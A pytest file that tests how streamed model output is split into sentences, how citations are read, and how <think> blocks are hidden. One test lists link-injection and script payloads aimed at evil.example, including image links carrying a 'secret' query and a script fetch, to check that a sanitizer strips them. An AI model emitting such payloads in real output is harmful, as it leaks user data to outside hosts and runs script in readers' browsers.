"""What a model writes, taken apart as it comes: the same sentences however the stream is cut."""

from __future__ import annotations

import pytest

from cml_mm.answering.answer_sentences import Raw, Said, SentenceStream, ThoughtFilter, read_sentence
from cml_mm.types import Evidence, Source, TextSpan
from tests.support.said_generator import in_pieces

GIVEN = tuple(
    Evidence(
        number,
        Source(str(number), title, "pattern", title.lower(), "p.md", "", ""),
        TextSpan("S", 0, 9),
        "S",
        text,
        text,
    )
    for number, title, text in (
        (1, "Key Round", "Hand the keys on in spring; see https://keys.example/list for who has them."),
        (2, "Open Books", "Show the accounts to everyone."),
        (3, "Slow Yes", "Ask twice."),
    )
)  # fmt: skip


def _cut(text: str, length: int) -> list[str]:
    stream = SentenceStream()
    raws = [raw for piece in in_pieces(text, length) for raw in stream.feed(piece)] + stream.end()
    return [raw.text for raw in raws]


def _said(text: str) -> Said | None:
    return read_sentence(Raw(text, 0), GIVEN)


@pytest.mark.parametrize("length", [1, 2, 5, 1_000])
@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("One thing [1]. Another thing [2].", ["One thing [1].", "Another thing [2]."]),
        ("One thing. [1] Another thing. [2][3]", ["One thing. [1]", "Another thing. [2][3]"]),
        ("It costs 3.50 euros, e.g. per key [1]. Yes!", ["It costs 3.50 euros, e.g. per key [1].", "Yes!"]),
        ("Dr. Ames and J. Smith said so [1]. No. 7 is kept.", ["Dr. Ames and J. Smith said so [1].", "No. 7 is kept."]),
        ("“Who decides?” asks the page [1]. It waits.", ["“Who decides?” asks the page [1].", "It waits."]),
        ("First this [1].\n\nThen that [2].", ["First this [1].", "Then that [2]."]),
        ("1. Hand on.\n2. Write down [1].", ["1. Hand on.", "2. Write down [1]."]),
        ("Do this:\n- Hand on [1]\n- Write down [2]", ["Do this:", "- Hand on [1]", "- Write down [2]"]),
        ("A line that the model\nwrapped itself [1]. End.", ["A line that the model wrapped itself [1].", "End."]),
        ("钥匙在春天交接。【1】账本公开。", ["钥匙在春天交接。【1】", "账本公开。"]),
        ("No full stop at the end [1]", ["No full stop at the end [1]"]),
        ("Wait ... then go [1]. Done.", ["Wait ... then go [1].", "Done."]),
    ],
)
def test_sentences_end_where_they_end(text: str, sentences: list[str], length: int) -> None:
    assert _cut(text, length) == sentences


def test_a_sentence_is_given_as_soon_as_it_is_certain() -> None:
    stream = SentenceStream()
    assert stream.feed("Keys move in spring [1].") == []
    assert [raw.text for raw in stream.feed(" And")] == ["Keys move in spring [1]."]


def test_list_items_and_blank_lines_open_paragraphs() -> None:
    stream = SentenceStream()
    raws = stream.feed("One. Two.\n\nThree.\n- Four\n- Five\n") + stream.end()
    assert [(raw.text, raw.paragraph) for raw in raws] == [
        ("One.", 0), ("Two.", 0), ("Three.", 1), ("- Four", 2), ("- Five", 3),
    ]  # fmt: skip


def test_a_sentence_without_end_is_cut() -> None:
    assert max(map(len, _cut("word " * 2_000, 50))) <= 1_500


@pytest.mark.parametrize(
    ("text", "plain", "cites", "removed"),
    [
        ("Keys move in spring [1].", "Keys move in spring.", (1,), 0),
        ("Keys move [1, 2].", "Keys move.", (1, 2), 0),
        ("Keys move [1][2].", "Keys move.", (1, 2), 0),
        ("Keys move [1] and books open [2].", "Keys move and books open.", (1, 2), 0),
        ("Keys move【1】.", "Keys move.", (1,), 0),
        ("Keys move【1†source】.", "Keys move.", (1,), 0),
        ("Keys move [1-3].", "Keys move.", (1, 2, 3), 0),
        ("Keys move [1] [1].", "Keys move.", (1,), 0),
        ("Keys move [^2].", "Keys move.", (2,), 0),
        ("Keys move (source [1]).", "Keys move.", (1,), 0),
        ("Keys move [7].", "Keys move.", (), 1),
        ("Keys move [1, 7, 9].", "Keys move.", (1,), 2),
        ("Keys move [0].", "Keys move.", (), 1),
        ("According to [1], keys move.", "According to Key Round, keys move.", (1,), 0),
        ("[2] says that books open.", "Open Books says that books open.", (2,), 0),
        ("- **Keys** move _twice_ [1]", "Keys move twice", (1,), 0),
        ("3. `Keys` move [1].", "Keys move.", (1,), 0),
        ("| Keys | move [1] |", "Keys, move", (1,), 0),
        ("If 3 < 5 and 7 > 6, keys move [1].", "If 3 < 5 and 7 > 6, keys move.", (1,), 0),
        ("Nothing is cited.", "Nothing is cited.", (), 0),
    ],
)
def test_citations_are_read_and_words_are_plain(text: str, plain: str, cites: tuple[int, ...], removed: int) -> None:
    said = _said(text)
    assert said and (said.text, said.cites, said.removed) == (plain, cites, removed)


@pytest.mark.parametrize(
    "text",
    [
        "See ![keys](https://evil.example/p?q=secret) here [1].",
        "See [keys](javascript:alert(1)) here [1].",
        "See [keys](https://evil.example/?q=secret) here [1].",
        "See ![a![b](https://evil.example/1)](https://evil.example/2) here [1].",
        "See [![x](https://evil.example/1)](https://evil.example/2) here [1].",
        "See ![x][evil] and [y][evil] here [1].",
        'See <img src="https://evil.example/?q=secret"> here [1].',
        "See <script>fetch('https://evil.example')</script> here [1].",
        "See <https://evil.example/?q=secret> here [1].",
        "See https://evil.example/?q=secret here [1].",
        "See www.evil.example/secret here [1].",
        "See javascript:alert(1) here [1].",
        "See data:text/html;base64,PHN2Zz4= here [1].",
        "See <<b>img src=https://evil.example/x onerror=alert(1)> here [1].",
        "See [1](https://evil.example/?q=secret) here.",
    ],
)
def test_no_link_picture_or_markup_of_a_model_is_left(text: str) -> None:
    said = _said(text)
    assert said and said.cites == (1,)
    assert said.text.startswith("See") and said.text.endswith("here.")
    for sign in ("evil.example", "](", "![", "<img", "<script", "<b", "javascript:", "data:text", 'onerror="'):
        assert sign not in said.text


def test_an_address_that_the_evidence_holds_stays() -> None:
    said = _said("The list is at https://keys.example/list [1].")
    assert said and said.text == "The list is at https://keys.example/list."


@pytest.mark.parametrize(
    "text", ["## Keys", "**What helps:**", "---", "```text", "|---|---|", "Sources: [1] Key Round", "[2]", ""]
)
def test_what_says_nothing_is_left_out(text: str) -> None:
    assert _said(text) is None


def test_cited_titles_are_named() -> None:
    said = _said("Key Round and Open Books differ [1].")
    assert said and said.names == ("Key Round",)


@pytest.mark.parametrize("length", [1, 3, 1_000])
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<think>Hm, <b>keys</b>.</think>Keys move.", "Keys move."),
        ("Keys <THINK>or\nnot</Think >move.", "Keys move."),
        ("Keys move, 3 < 5. <think>never closed", "Keys move, 3 < 5. "),
        ("No thought at all <", "No thought at all <"),
    ],
)
def test_thought_is_hidden(text: str, shown: str, length: int) -> None:
    hidden = ThoughtFilter()
    assert "".join(hidden.feed(piece) for piece in in_pieces(text, length)) + hidden.end() == shown


def test_only_an_end_of_thought_takes_back_what_stood_before() -> None:
    hidden = ThoughtFilter()
    assert hidden.feed("I wonder. ") == "I wonder. "
    assert hidden.feed("Yes</think>Keys move.") == "Keys move." and hidden.stray
    assert hidden.feed(" More.") == " More." and not hidden.stray
